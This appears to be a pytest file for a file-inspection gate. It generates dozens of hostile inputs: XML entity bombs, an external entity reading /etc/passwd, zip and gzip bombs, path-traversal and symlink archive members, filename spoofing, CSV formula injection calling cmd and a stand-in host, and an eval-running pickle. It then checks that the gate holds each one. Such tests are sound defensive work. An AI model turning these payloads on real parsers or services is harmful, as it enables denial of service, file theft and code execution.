"""Files made to break what reads them: bombs, loops, floods, tricks with names. Each is held by itself.

All go through the gate's own process at once, under the bounds that the platform gives one file.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sandbox.egress.isolated import inspect_files
from sandbox.egress.process import GateLimits
from sandbox.egress.report import Product
from sandbox.kernel.findings import FileJudgement, Verdict
from sandbox.seats.isolation import probe
from sandbox.seats.spec import MIB
from tests.egress.clinic import claim, csv_of, visits
from tests.egress.examples import BY_KIND, plotted, proven

pytestmark = [
    pytest.mark.long,
    pytest.mark.timeout(2400),
    pytest.mark.skipif(not probe(), reason="this machine cannot isolate"),
]
ROWS = csv_of(visits().slice(100, 30))
COUNTS = b"a,n\nx,120\ny,340\n"
LIMITS = GateLimits(memory_bytes=4096 * MIB, file_memory=2048 * MIB, file_seconds=30)
LAUGHS = b'<!DOCTYPE z [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (letter + 1, b"&%c;" % letter * 12) for letter in range(97, 110)
) + b"]>"  # fmt: skip
ENTITY = b'<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">'
RIGHT_TO_LEFT = chr(0x202E)


def packed(members: dict[str, bytes], *, mode: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = mode << 16
            entry.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(entry, data)
    return out.getvalue()


def tarred(kind: bytes, name: str = "p.csv", to: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.type, member.linkname, member.devmajor, member.devminor = kind, to, 1, 5
        archive.addfile(member)
    return out.getvalue()


def nested(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = packed({"p.zip": data})
    return data


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(pixels, 9))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + body + chunk(b"IEND", b"")


def parquet(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def arrow(table: pa.Table) -> bytes:
    out = io.BytesIO()
    with pa.ipc.new_file(out, table.schema) as writer:
        writer.write_table(table)
    return out.getvalue()


def book(**members: bytes) -> bytes:
    """Return a package that passes for a workbook as far as its directory goes."""
    kinds = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    named = {"xl/" + name.replace("__", "/") + ".xml": data for name, data in members.items()}
    return packed({"[Content_Types].xml": kinds, "xl/workbook.xml": b"<workbook/>", **named})


class Bad:
    """Would run a command, were it ever unpickled."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return eval, ("__import__('os').abort()",)


def named(columns: int) -> bytes:
    return ",".join(f"c{one}" for one in range(columns)).encode() + b"\n"


def longest(data: bytes, unit: bytes = b"") -> bytes:
    return data + unit * (2_000_000 // max(len(unit), 1))


HOSTILE: dict[str, Callable[[], bytes]] = {
    # bombs
    "laughs.svg": lambda: LAUGHS + SVG + b"<text>&n;</text></svg>",
    "laughs.xml": lambda: LAUGHS + b"<z>&n;</z>",
    "laughs.html": lambda: LAUGHS + b"<html><body>&n;</body></html>",
    "laughs.xlsx": lambda: book(sharedStrings=LAUGHS + b"<sst><si><t>&n;</t></si></sst>"),
    "outside.svg": lambda: ENTITY + SVG + b"<text>&a;</text></svg>",
    "zeros.gz": lambda: gzip.compress(bytes(16 << 20), 9) * 200,
    "zeros.zip": lambda: packed({f"{one}.csv": bytes(32 << 20) for one in range(4)}),
    "nested.zip": lambda: nested(ROWS, 40),
    "many.zip": lambda: packed({f"{one}.csv": b"a\n1\n" for one in range(20_000)}),
    "wide.png": lambda: png(60_000, 60_000, bytes(8 << 20)),
    "pixels.png": lambda: png(100, 100, bytes(64 << 20)),
    # names and kinds of members
    "up.zip": lambda: packed({"../../etc/cron.d/p.csv": COUNTS}),
    "root.zip": lambda: packed({"/etc/p.csv": COUNTS}),
    "drive.zip": lambda: packed({"C:\\p.csv": COUNTS}),
    "link.zip": lambda: packed({"p.csv": b"/etc/passwd"}, mode=0o120777),
    "device.zip": lambda: packed({"p.csv": b""}, mode=0o020666),
    "fifo.zip": lambda: packed({"p.csv": b""}, mode=0o010666),
    "turned.zip": lambda: packed({f"p{RIGHT_TO_LEFT}vsc.exe": COUNTS}),
    "same.zip": lambda: packed({"p.csv": COUNTS, "P.CSV": ROWS}),
    "link.tar": lambda: tarred(tarfile.SYMTYPE, to="/etc/passwd"),
    "hard.tar": lambda: tarred(tarfile.LNKTYPE, to="../../etc/passwd"),
    "device.tar": lambda: tarred(tarfile.CHRTYPE),
    "fifo.tar": lambda: tarred(tarfile.FIFOTYPE),
    "up.tar": lambda: tarred(tarfile.REGTYPE, name="../../p.csv"),
    # sizes that lie or overflow
    "wide.csv": lambda: named(100_000) + b",".join([b"1"] * 100_000),
    "wide.json": lambda: json.dumps([{f"c{one}": one for one in range(100_000)}]).encode(),
    "wide.parquet": lambda: parquet(pa.table({f"c{one}": [1.5] for one in range(6_000)})),
    "cell.csv": lambda: longest(b"a,b\n1,", b"x"),
    "line.txt": lambda: longest(b"", b"\xe8\xae\xb0"),
    "digits.json": lambda: b'[{"a": ' + b"9" * 2_000_000 + b"}]",
    "power.json": lambda: b'[{"a": 1e999999999}, {"a": -1e999999999}]',
    "shape.npy": lambda: b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, "
    b"'shape': (1000000000000,), }" + b" " * 30 + b"\n",
    "objects.npy": lambda: numpy_objects(),
    "head.safetensors": lambda: struct.pack("<Q", 1 << 62) + b"{}",
    "tensor.safetensors": lambda: tensors(
        {"w": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 62]}}
    ),
    "cut.parquet": lambda: parquet(visits())[:-3],
    "foot.parquet": lambda: parquet(visits())[:-8] + struct.pack("<I", 0x7FFFFFFF) + b"PAR1",
    "lengths.arrow": lambda: swapped(arrow(visits()), struct.pack("<q", 1 << 60)),
    "pages.sqlite": lambda: b"SQLite format 3\0" + b"\xff" * 5000,
    # depth and loops
    "deep.json": lambda: b"[" * 200_000 + b"]" * 200_000,
    "deep.ndjson": lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"\n" + b'{"a":1}\n',
    "deep.svg": lambda: SVG + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>",
    "deep.html": lambda: b"<html><body>" + b"<div>" * 200_000,
    "deep.ipynb": lambda: b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": ' + b"[" * 90_000,
    "use.svg": lambda: SVG + b'<g id="a"><use href="#a"/></g></svg>',
    "marks.svg": lambda: SVG + b'<circle r="1"/>' * 200_000 + b"</svg>",
    "loop.pdf": lambda: b"%PDF-1.7\n1 0 obj<</Type/Pages/Kids[1 0 R]/Parent 1 0 R/Count 9>>endobj\n"
    b"trailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
    # floods and slow patterns
    "nan.json": lambda: b'[{"a": NaN, "b": Infinity}' + b', {"a": NaN, "b": -Infinity}' * 200_000 + b"]",
    "nan.csv": lambda: longest(b"a,b\n", b"NaN,inf\n"),
    "nan.parquet": lambda: parquet(pa.table({"a": np.full(500_000, np.nan), "b": np.full(500_000, np.inf)})),
    "empty.csv": lambda: longest(b"a,b\n", b",\n"),
    "lines.csv": lambda: longest(b"a\n", b"\n"),
    "quotes.csv": lambda: longest(b'a,b\n"', b'"'),
    "quote.csv": lambda: longest(b'a,b\n1,"', b"x,y\n"),
    "numbers.txt": lambda: longest(b"", b"12 ") + b"x",
    "entities.txt": lambda: longest(b"", b"&#x41"),
    "shifts.txt": lambda: longest(b"", b"+AAA"),
    "xn.txt": lambda: longest(b"", b"xn--"),
    "spaces.txt": lambda: longest(b"a", b" ") + b"x\n",
    "hex.txt": lambda: longest(b"", b"0f"),
    "base.txt": lambda: longest(b"", b"QUJD"),
    "tags.html": lambda: longest(b"<html>", b"<"),
    "attributes.html": lambda: longest(b"<html><p ", b"a=' "),
    "comments.svg": lambda: longest(SVG, b"<!--"),
    "bars.txt": lambda: longest(b"", b"|-|\n"),
    "streams.bin": lambda: longest(b"", b"\x78\x9c\x00"),
    # what is two things at once
    "pdf.zip": lambda: b"%PDF-1.4\n" + packed({"p.csv": ROWS}),
    "png.zip": lambda: png(2, 2, bytes(14)) + packed({"p.csv": ROWS}),
    "gif.csv": lambda: b"GIF89a=1,2\n" + ROWS,
    "html.csv": lambda: b"<html><!--\n" + ROWS + b"-->",
    "zip.csv": lambda: ROWS + packed({"p.csv": ROWS}),
    "csv.xlsx": lambda: ROWS,
    "script.png": lambda: png(2, 2, bytes(14), chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<script/>")),
    # what acts on whoever opens it
    "formula.csv": lambda: b"a,n\n=HYPERLINK(\"http://x/?\"&A2),120\n@SUM(1),340\n+1+cmd|'/c'!A1,220\n",
    "pickle.csv": lambda: pickle.dumps(Bad()),
    "pickle.npz": lambda: packed({"a.npy": numpy_objects()}),
    # letters that deceive
    f"p{RIGHT_TO_LEFT}gnp.csv": lambda: COUNTS,
    "turned.csv": lambda: COUNTS.replace(b"x", f"{RIGHT_TO_LEFT}x".encode()),
    "surrogate.json": lambda: b'[{"a": "\\ud800", "b": 1}]',
    "odd.csv": lambda: "a,n\nx,120\n".encode("utf-16")[:-1],
    "nul.csv": lambda: COUNTS.replace(b"x", b"\0x\0"),
    "bom.csv": lambda: b"\xff\xfe\x00\x00" + COUNTS,
}  # fmt: skip


def numpy_objects() -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([Bad()], dtype=object), allow_pickle=True)
    return out.getvalue()


def tensors(head: dict[str, object]) -> bytes:
    text = json.dumps(head).encode()
    return struct.pack("<Q", len(text)) + text + bytes(64)


def swapped(data: bytes, piece: bytes) -> bytes:
    """Return the data with every eighth word of its second half overwritten."""
    out = bytearray(data)
    for at in range(len(out) // 16 * 8, len(out) - 64, 64):
        out[at : at + len(piece)] = piece
    return bytes(out)


@pytest.fixture(scope="module")
def held(tmp_path_factory: pytest.TempPathFactory) -> dict[str, FileJudgement]:
    """Return what the gate says of every hostile file, and of two good ones among them."""
    source = tmp_path_factory.mktemp("hostile") / "visits.csv"
    source.write_bytes(csv_of(visits()))
    good = [replace(one, path=f"good-{one.path}") for one in (*proven(BY_KIND), *plotted(BY_KIND))]
    (fine, drawn) = (replace(one, claim=claim(BY_KIND)) for one in good)
    products = [fine, *(Product(name, make()) for name, make in HOSTILE.items()), drawn]
    judged = inspect_files(products, [Path(source)], limits=LIMITS)
    return {file.path: file for file in judged.judgement.files}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_held(held: dict[str, FileJudgement], name: str) -> None:
    file = held[name]
    assert file.verdict is not Verdict.RELEASE
    assert file.findings


def test_its_neighbours_are_judged_as_ever(held: dict[str, FileJudgement]) -> None:
    assert {held[name].verdict for name in ("good-p.csv", "good-p.json")} == {Verdict.RELEASE}
